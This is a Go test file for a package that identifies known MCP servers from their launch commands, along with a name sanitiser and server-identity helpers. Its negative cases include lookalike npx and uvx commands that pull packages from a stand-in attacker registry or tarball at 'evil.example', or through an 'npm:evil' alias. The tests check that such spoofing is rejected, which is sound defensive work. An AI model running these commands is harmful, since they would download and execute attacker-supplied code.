package servers

import (
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/margaydev/margay/taint/pack"
)

func TestPack(t *testing.T) {
	for command, want := range map[string]string{
		"npx -y @modelcontextprotocol/server-filesystem /srv":        "filesystem",
		"npx @modelcontextprotocol/server-filesystem@2026.8.31 /srv": "filesystem",
		"npx -y @playwright/mcp@latest":                              "playwright",
		"npx.cmd -y @playwright/mcp":                                 "playwright",
		"pnpm dlx @modelcontextprotocol/server-memory":               "memory",
		"uvx mcp-server-fetch":                                       "fetch",
		"uvx mcp-server-git@2026.10.19 --repository .":               "git",
		"pipx run mcp-server-sqlite":                                 "sqlite",
		"mcp-server-git":                                             "git",
		"github-mcp-server stdio":                                    "github",

		// Another program under a name that sounds alike.
		"": "",
		"npx -y evil @modelcontextprotocol/server-filesystem":                       "",
		"npx -y -p evil @modelcontextprotocol/server-filesystem":                    "",
		"npx --registry=https://evil.example @modelcontextprotocol/server-memory":   "",
		"npx -y @modelcontextprotocol/server-filesystem@npm:evil":                   "",
		"npx -y @modelcontextprotocol/server-filesystem@https://evil.example/x.tgz": "",
		"npx -y ./@modelcontextprotocol/server-filesystem":                          "",
		"npx -y @ModelContextProtocol/server-filesystem":                            "",
		"npx -y mcp-server-fetch":                                                   "",
		"uvx --from evil mcp-server-fetch":                                          "",
		"uvx @playwright/mcp":                                                       "",
		"./mcp-server-git":                                                          "",
		"/tmp/npx @playwright/mcp":                                                  "",
		"node server-filesystem":                                                    "",
		"pnpm exec @modelcontextprotocol/server-memory":                             "",
		"sh -c npx": "",
		"npx":       "", "npx -y": "", "pipx": "", "pnpm": "",
	} {
		if got := Pack(strings.Fields(command)); got != want {
			t.Errorf("%s: %q, want %q", command, got, want)
		}
	}
	var known []string
	for _, name := range pack.Names() {
		if p, err := pack.Builtin(name); err == nil && p.Kind == pack.Server {
			known = append(known, p.For)
		}
	}
	for _, table := range []map[string]string{npm, pypi, programs} {
		for name, of := range maps.All(table) {
			if !slices.Contains(known, of) {
				t.Errorf("%s: no pack describes %s", name, of)
			}
		}
	}
}

func TestAgents(t *testing.T) {
	for name, want := range map[string]string{"files": "files", "My Files.2": "My_Files_2", "": "", "--": "", "é": "_", strings.Repeat("a", 65): ""} {
		if got := Agents(name); got != want {
			t.Errorf("%q: %q, want %q", name, got, want)
		}
	}
}

func TestName(t *testing.T) {
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"npx", "-y", "@modelcontextprotocol/server-everything", "--x"}, "server-everything"},
		{[]string{"/usr/bin/uvx", "mcp-server-git"}, "mcp-server-git"},
		{[]string{"docker", "run", "-i", "--rm", "mcp/fetch"}, "fetch"},
		{[]string{"/opt/servers/files", "/srv"}, "files"},
		{[]string{"node", "--token=x y"}, "node"},
		{[]string{"node", "a b"}, "mcp-server"},
	} {
		shown, id := Name("", c.args)
		if shown != c.want {
			t.Errorf("%v is %s, want %s", c.args, shown, c.want)
		}
		if _, other := Name("", append(c.args, "more")); other == id {
			t.Errorf("%v is the same with another argument", c.args)
		}
		if _, named := Name("n", c.args); named == id {
			t.Errorf("%v is the same with a name", c.args)
		}
	}
	_, a := Name("n", []string{"x"})
	if _, b := Name("n", []string{"y"}); a != b {
		t.Error("a name does not make it the same server")
	}
}
